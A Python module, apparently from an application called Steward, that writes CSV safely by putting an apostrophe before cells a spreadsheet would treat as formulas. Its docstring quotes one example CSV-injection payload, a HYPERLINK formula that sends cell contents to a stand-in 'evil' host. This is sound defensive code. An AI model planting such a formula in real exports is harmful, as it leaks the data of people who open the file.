"""The one way Steward writes CSV: cells a spreadsheet would run as a formula are defused.

CSV injection (OWASP "CSV Injection"; ASVS 5.0 V1.2.10): a cell starting with ``=``,
``+``, ``-``, ``@``, a tab, a carriage return or a null character is a formula (or can be
made to start one) to Excel, LibreOffice and Google Sheets, so a request titled ``=HYPERLINK("http://evil/?"&A1, "Click")`` would run
on the desk manager's machine when they open the export. Such a text cell gets one
leading apostrophe, which spreadsheets take as "this is text" and do not show.

The rule is reversible, so a file Steward wrote reads back to what was exported
(``unescape``, used by the CMDB import): an apostrophe is also added before text that
already starts with apostrophes followed by one of those characters, and readers remove
exactly one apostrophe from such cells. Numbers stay numbers (``-5`` is not a formula).

Lines end with CRLF (RFC 4180) whatever the caller asks: the ``csv`` module quotes a cell
only for the characters of its line terminator, so with a bare ``\n`` a carriage return
inside a cell would go out unquoted and start a new row (a new first cell, so a formula)
in a spreadsheet.

Every producer uses ``writer`` or ``dict_writer``; a test fails when a module writes CSV
with the ``csv`` module directly.
"""

import csv
import re
from collections.abc import Iterable, Mapping, Sequence
from decimal import Decimal
from typing import Any, Protocol

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")
LINE_END = "\r\n"
_ESCAPED = re.compile("'*[=+\\-@\t\r\0]")


def escape(value: Any) -> Any:
    """The cell as it is safe to write: numbers unchanged, text defused when needed."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    return "'" + text if _ESCAPED.match(text) else text


def unescape(text: str) -> str:
    """The value ``escape`` was given for a text cell: one apostrophe off a defused cell."""
    if text.startswith("'") and _ESCAPED.match(text, 1):
        return text[1:]
    return text


class _File(Protocol):
    def write(self, text: str, /) -> Any: ...


class Writer:
    """``csv.writer`` with every cell passed through ``escape``."""

    def __init__(self, file: _File, **kwargs: Any) -> None:
        self._writer = csv.writer(file, **{**kwargs, "lineterminator": LINE_END})

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([escape(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class DictWriter:
    """``csv.DictWriter`` with every cell passed through ``escape``."""

    def __init__(self, file: _File, fieldnames: Sequence[str], **kwargs: Any) -> None:
        self._writer = csv.DictWriter(
            file, fieldnames=fieldnames, **{**kwargs, "lineterminator": LINE_END}
        )

    def writeheader(self) -> Any:
        return self._writer.writeheader()

    def writerow(self, row: Mapping[str, Any]) -> Any:
        return self._writer.writerow({key: escape(value) for key, value in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


class Echo:
    """A file whose ``write`` returns the line, for streaming responses."""

    def write(self, text: str) -> str:
        return text


def writer(file: _File, **kwargs: Any) -> Writer:
    return Writer(file, **kwargs)


def dict_writer(file: _File, fieldnames: Sequence[str], **kwargs: Any) -> DictWriter:
    return DictWriter(file, fieldnames, **kwargs)
